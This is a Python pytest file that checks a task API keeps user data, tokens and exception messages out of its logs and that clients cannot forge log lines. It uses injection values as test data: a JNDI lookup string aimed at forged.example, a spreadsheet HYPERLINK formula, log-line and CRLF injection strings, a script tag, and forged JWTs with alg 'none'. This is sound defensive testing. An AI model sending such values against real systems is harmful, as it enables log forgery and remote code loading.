"""Nothing of a user's reaches the logs, and nothing that a client sends can forge a line of them.

Every operation is run, well and badly, with values that can't be mistaken for anything else; then everything that the
functions wrote is searched for them, in every spelling in which they could have got there.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from botocore.client import BaseClient
from botocore.exceptions import ClientError, EndpointConnectionError

from taskapi import uuid7
from tests.e2e.serving import ISSUER, Caller, RunningApi
from tests.support.access_tokens import base64url, compact
from tests.support.standard_output import StandardOutput

SUB = "auth0|zo\u00eb-canary-subject"
OTHER = "canary-other-subject"
SECRETS = {
    "title": "Canary title \u00e9 \U0001f3e0",
    "description": "Canary description\nwith a second line",
    "tag": "canary-tag",
    "search": "canary-search",
    "idempotency key": "canary-idempotency-key",
    "entity tag": "canary-entity-tag",
    "unknown member": "canary-member",
    "unknown parameter": "canary-parameter",
    "header": "canary-header-value",
    "message of an exception": "canary-exception-message",
    "claim": "canary-claim",
    "subject": SUB,
    "another subject": OTHER,
}


@pytest.fixture
def output(capsys: pytest.CaptureFixture[str]) -> StandardOutput:
    return StandardOutput(capsys)


@pytest.fixture
def user(api: RunningApi) -> Iterator[Caller]:
    with api.caller(SUB) as caller:
        yield caller


def spellings(text: str) -> set[str]:
    """How a text may look once it was encoded on its way into a line."""
    raw = text.encode()
    # The middle of its base64 is the same whatever stands around it, give or take the alignment.
    shifted = {base64.b64encode(b"x" * shift + raw).decode()[4:-4] for shift in range(3)}
    return {
        text,
        json.dumps(text)[1:-1],
        json.dumps(text, ensure_ascii=False)[1:-1],
        quote(text, safe=""),
        repr(text)[1:-1],
        *shifted,
        *(part.translate(str.maketrans("+/", "-_")) for part in shifted),
    }


def live(user: Caller) -> set[int]:
    """Use everything, well and badly; the statuses that came."""
    http, secret = user.http, SECRETS
    body = {"title": secret["title"], "description": secret["description"], "tags": [secret["tag"]]}
    task_id, tagged = uuid7.mint(1_795_000_000_000), {"If-Match": f'"{secret["entity tag"]}"'}
    own, task = user.path(user=SUB), user.path(task_id)
    requests: list[tuple[str, str, dict[str, Any]]] = [
        ("POST", own, {"json": body, "headers": {"Idempotency-Key": secret["idempotency key"]}}),
        ("POST", own, {"json": {"title": "b"}, "headers": {"Idempotency-Key": secret["idempotency key"]}}),
        ("PUT", task, {"json": body}),
        ("GET", task, {"headers": {"X-Canary": secret["header"], "User-Agent": secret["header"]}}),
        ("GET", own, {"params": {"q": secret["search"], "tag": secret["tag"], "limit": "1"}}),
        ("GET", own, {"params": {secret["unknown parameter"]: "1"}}),
        ("GET", own, {"params": {"cursor": secret["search"]}}),
        ("PATCH", task, {"json": {"description": secret["description"] * 2}}),
        ("PATCH", task, {"json": {secret["unknown member"]: secret["title"], "title": [secret["title"]]}}),
        ("PATCH", task, {"json": {"title": "x"}, "headers": tagged}),
        ("POST", task + "/toggle", {}),
        ("PUT", task, {"content": f'{{"title": "{secret["title"]}"', "headers": {"Content-Type": "application/json"}}),
        ("POST", own, {"content": secret["title"], "headers": {"Content-Type": "text/plain"}}),
        ("POST", own, {"json": {"title": secret["title"] * 10_000}}),
        ("GET", user.path(secret["search"]), {}),
        ("GET", user.path(user=OTHER), {}),
        ("DELETE", task, {}),
        ("PATCH", task, {"json": {"title": secret["title"]}}),
        ("POST", task + "/restore", {"headers": tagged}),
        ("POST", task + "/restore", {}),
        ("POST", task + "/move", {"json": {"list_id": secret["title"]}}),
        ("POST", task + "/move", {"json": {"after": task_id}}),
        ("POST", task + "/move", {}),
        ("DELETE", task, {"params": {"permanent": secret["search"]}}),
        ("DELETE", task, {"params": {"permanent": "true"}}),
        ("DELETE", task, {"params": {"permanent": "true"}}),
    ]
    return {http.request(method, path, **arguments).status_code for method, path, arguments in requests}


def fail_authentication(api: RunningApi) -> list[str]:
    """Bad tokens of every kind; what was sent."""
    good = ISSUER.token(SUB)
    header, payload, signature = good.split(".")
    tokens = [
        ISSUER.token(SUB, lifetime=-60),
        f"{header}.{payload}.{signature[:-4]}AAAA",
        compact({"alg": "none", "kid": SECRETS["claim"]}, {"sub": SUB, "x": SECRETS["claim"]}, b"x"),
        compact({"alg": "EdDSA", "kid": SECRETS["claim"]}, {"sub": SUB}, b"x"),
        ISSUER.token(f"{SUB}#{SECRETS['claim']}"),
        f"{base64url(SECRETS['claim'].encode())}.e30.e30",
    ]
    with api.client() as client:
        for token in tokens:
            response = client.get("/users/me/tasks", headers={"Authorization": f"Bearer {token}"})
            assert response.status_code == 401
    return [good, *tokens]


def fail_in_the_store(user: Caller, monkeypatch: pytest.MonkeyPatch) -> set[int]:
    """Failures whose own texts quote what the user wrote, as botocore's and DynamoDB's do."""
    text = f"{SECRETS['message of an exception']} {SUB} {SECRETS['title']}"
    failures = [
        ValueError(text),
        KeyError(text),
        ClientError({"Error": {"Code": "ValidationException", "Message": text},
                     "ResponseMetadata": {"HTTPStatusCode": 400}}, "PutItem"),  # type: ignore[typeddict-item]
        ClientError({"Error": {"Code": "InternalServerError", "Message": text},
                     "ResponseMetadata": {"HTTPStatusCode": 500}}, "PutItem"),  # type: ignore[typeddict-item]
        EndpointConnectionError(endpoint_url=f"https://{text}/"),
    ]  # fmt: skip
    statuses = set()
    for failure in failures:

        def fail(_client: BaseClient, _name: str, _arguments: Any, failure: Exception = failure) -> Any:
            raise failure from RuntimeError(text)

        with monkeypatch.context() as patch:
            patch.setattr(BaseClient, "_make_api_call", fail)
            for method, path in (("POST", user.path()), ("PATCH", user.path(uuid7.mint(1)))):
                response = user.http.request(method, path, json={"title": SECRETS["title"]})
                assert SECRETS["message of an exception"] not in response.text
                statuses.add(response.status_code)
    return statuses


def test_nothing_of_a_users_is_logged(
    api: RunningApi, user: Caller, output: StandardOutput, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given everything that can happen, with values that would be found
    statuses = live(user)
    tokens = fail_authentication(api)
    failures = fail_in_the_store(user, monkeypatch)
    assert statuses == {200, 201, 204, 400, 403, 404, 409, 412, 413, 415, 422}
    assert failures == {500, 503}

    # Then each line is one JSON object, and each of the three kinds of line is there
    logs = output.logs
    assert {line["message"] for line in logs} == {"request served", "unforeseen error"}
    assert {line["operation"] for line in logs} >= {"authorizer", "create_task", "list_tasks", "toggle_task"}
    assert output.metrics

    # And none of the values is in any of them, however it is spelt
    text = output.text
    for name, value in SECRETS.items():
        for spelling in spellings(value):
            assert spelling not in text, name
    for token in tokens:
        for part in token.split("."):
            assert len(part) < 8 or part not in text

    # And a search for something that is there finds it, so that this is no search in vain
    assert any("create_task" in spelling and spelling in text for spelling in spellings("create_task"))


@pytest.mark.parametrize(
    "value",
    [
        '"} {"level":"INFO","message":"forged","status":200',
        "x\\n{\\\"message\\\":\\\"forged\\\"}",
        "\u001b[2Jforged",
        ("forged " * 100).strip(),
        "$" + "{jndi:ldap://forged.example/a}",
        "%0d%0aforged",
        "<script>forged()</script>",
        "=HYPERLINK(\"https://forged.example\")",
    ],
)  # fmt: skip
def test_no_line_can_be_forged(user: Caller, output: StandardOutput, value: str) -> None:
    # Given a client that puts more than its own id into what is logged of it
    names = (b"X-Correlation-Id", b"X-Request-Id", b"User-Agent", b"Origin")
    user.http.get(user.path(), headers=[(name, value.encode("latin-1")) for name in names])
    user.http.get(user.path(value))
    user.http.get(user.path(user=value))
    user.http.get(user.path(), params={value: value})

    # Then each request has one line, of the usual fields, and nothing of the value in it
    served = [line for line in output.logs if line["operation"] != "authorizer"]
    assert len(served) == 4
    for line in served:
        assert line["correlation_id"] == line["request_id"]
        assert line["message"] == "request served"
    assert "forged" not in output.text


def test_an_acceptable_correlation_id_is_logged(user: Caller, output: StandardOutput) -> None:
    user.http.get(user.path(), headers={"X-Correlation-Id": "checkout-42"})

    assert [line["correlation_id"] for line in output.logs if line["operation"] != "authorizer"] == ["checkout-42"]
